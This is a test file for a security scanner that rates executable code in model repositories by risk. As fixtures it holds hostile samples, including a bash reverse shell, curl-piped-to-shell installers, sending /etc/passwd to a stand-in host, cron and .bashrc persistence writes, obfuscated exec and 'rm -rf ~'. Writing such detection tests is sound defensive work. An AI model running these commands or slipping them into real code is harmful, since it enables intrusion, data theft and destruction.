/**
 * Executable code in a repository has its own rule (issue 11): MS-CODE-001 low by presence, MS-CODE-002 high when
 * the code does what model code has no need to, judged on a real parse (strings and comments are not code) and by
 * whether a loader imports it (trust_remote_code through a config's auto_map). Through the engine entry.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type FileReport, scanPaths } from '@modelsec/core';
import { afterAll, describe, expect, it } from 'vitest';

const root = mkdtempSync(join(tmpdir(), 'modelsec-code-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let n = 0;
async function scanRepo(files: Record<string, string>): Promise<Record<string, string[]>> {
  const dir = join(root, String(n++));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  const report = await scanPaths([dir]);
  return Object.fromEntries(
    report.files.map((f: FileReport) => [
      f.path.slice(dir.length + 1),
      f.findings.filter((x) => !x.suppressed).map((x) => `${x.ruleId}:${x.severity}`),
    ]),
  );
}
const CONFIG = JSON.stringify({
  model_type: 'tiny',
  auto_map: { AutoModel: 'custom_model.TinyModel', AutoConfig: 'conf.TinyConfig' },
});

const BENIGN_MODEL = `"""Tiny model. Mentions subprocess, os.system and __globals__ in a docstring only."""
import torch
from torch import nn
# import subprocess  <- a comment, not code
from .helpers import act

class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.template = "{{ message.__class__ }} and os.system('x') in a string"
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        return act(self.proj(x))
`;

const PAYLOADS: Record<string, string> = {
  'subprocess in __init__': `import subprocess\nclass TinyModel:\n    def __init__(self, config):\n        subprocess.run(["curl", "-s", "http://x"])\n`,
  'aliased os.system': `from os import system as s\ndef setup():\n    s("id")\n`,
  'getattr(os, name) from a string': `import os\nf = getattr(os, "sys" + "tem")\n`,
  'exec of base64': `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n`,
  'exec of a constant that imports subprocess': `exec("import subprocess\\nsubprocess.call(['id'])")\n`,
  'marshal code object': `import marshal, types\nf = types.FunctionType(marshal.loads(b"..."), globals())\n`,
  'socket at import': `import socket\ns = socket.socket()\n`,
  'HTTP at import': `import requests\nrequests.post("http://x", data=open("/etc/passwd").read())\n`,
  'write outside the repo': `with open("/etc/cron.d/x", "w") as f:\n    f.write("* * * * * root id")\n`,
  'write to ~/.bashrc via pathlib': `from pathlib import Path\nPath("~/.bashrc").write_text("curl x | sh")\n`,
  'dynamic __import__': `m = __import__("subprocess")\nm.check_output(["id"])\n`,
};

describe('code in a repository', () => {
  it('remote code (auto_map and its relative imports) that only computes is low; comments, strings and docstrings are not code', async () => {
    const r = await scanRepo({
      'config.json': CONFIG,
      'custom_model.py': BENIGN_MODEL,
      'helpers.py': 'import torch\ndef act(x):\n    return torch.relu(x)\n',
      'conf.py': 'class TinyConfig:\n    def __init__(self, **kw):\n        self.__dict__.update(kw)\n',
      '__init__.py': '',
    });
    expect(r['custom_model.py']).toEqual(['MS-CODE-001:low']);
    expect(r['helpers.py']).toEqual(['MS-CODE-001:low']);
    expect(r['conf.py']).toEqual(['MS-CODE-001:low']);
    expect(r['__init__.py']).toEqual([]);
  });

  it.each(Object.entries(PAYLOADS))('remote code that %s is high', async (_name, source) => {
    const r = await scanRepo({ 'config.json': CONFIG, 'custom_model.py': source });
    expect(r['custom_model.py']).toContain('MS-CODE-002:high');
  });

  it('a payload in a helper the model imports relatively is high too', async () => {
    const r = await scanRepo({
      'config.json': CONFIG,
      'custom_model.py': BENIGN_MODEL,
      'helpers.py': `import subprocess\ndef act(x):\n    subprocess.Popen(["sh", "-c", "id"])\n    return x\n`,
    });
    expect(r['helpers.py']).toContain('MS-CODE-002:high');
  });

  it('modeling_*.py is judged as remote code even without its config', async () => {
    const r = await scanRepo({ 'modeling_x.py': PAYLOADS['subprocess in __init__'] as string });
    expect(r['modeling_x.py']).toContain('MS-CODE-002:high');
  });

  it('scripts the user runs: git rev-parse and nvidia-smi are low, curl | sh and decoded exec are high, computed commands medium', async () => {
    const r = await scanRepo({
      'train.py': `import subprocess\ndef sha():\n    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True)\n`,
      'get.py': `import os\nos.system("curl -fsSL http://x/install.sh | sh")\n`,
      'run.py': `import subprocess, sys\nsubprocess.run(sys.argv[1:])\n`,
      'hidden.py': `import base64\nexec(base64.b64decode(open("x").read()))\n`,
      'port.py': `import socket\ndef free_port():\n    s = socket.socket()\n    s.bind(("", 0))\n    return s.getsockname()[1]\n`,
    });
    expect(r['train.py']).toEqual(['MS-CODE-001:low']);
    expect(r['port.py']).toEqual(['MS-CODE-001:low']);
    expect(r['get.py']).toContain('MS-CODE-002:high');
    expect(r['hidden.py']).toContain('MS-CODE-002:high');
    expect(r['run.py']).toEqual(['MS-CODE-003:medium', 'MS-CODE-001:low'].sort((a, b) => (a < b ? 1 : -1)));
  });

  it('notebooks: code cells judged (magics as shell), markdown and outputs are not code', async () => {
    const nb = (cells: Array<{ cell_type: string; source: string[] }>) =>
      JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
    const r = await scanRepo({
      'ok.ipynb': nb([
        { cell_type: 'markdown', source: ['Run `curl x | sh` and os.system(...) -- prose'] },
        {
          cell_type: 'code',
          source: ['!pip install -q transformers\n', 'import subprocess\n', "subprocess.run(['nvidia-smi'])\n"],
        },
      ]),
      'bad.ipynb': nb([{ cell_type: 'code', source: ['!curl -s http://x/a.sh | bash\n'] }]),
    });
    expect(r['ok.ipynb']).toEqual(['MS-CODE-001:low']);
    expect(r['bad.ipynb']).toContain('MS-CODE-002:high');
  });

  it('shell scripts: ordinary commands are low; pipes into a shell, reverse shells, rm -rf ~ are high', async () => {
    const r = await scanRepo({
      'train.sh':
        '#!/bin/bash\n# curl x | sh  (a comment)\nset -e\npython train.py --lr 1e-4 "$@"\nwget -q https://x/data.tar && tar xf data.tar\n',
      'a.sh': '#!/bin/sh\ncurl -fsSL https://x/i.sh | sh\n',
      'b.sh': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
      'c.sh': 'rm -rf ~\n',
      'd.sh': 'eval "$(curl -s http://x)"\n',
    });
    expect(r['train.sh']).toEqual(['MS-CODE-001:low']);
    for (const f of ['a.sh', 'b.sh', 'c.sh', 'd.sh']) expect(r[f], f).toContain('MS-CODE-002:high');
  });
});
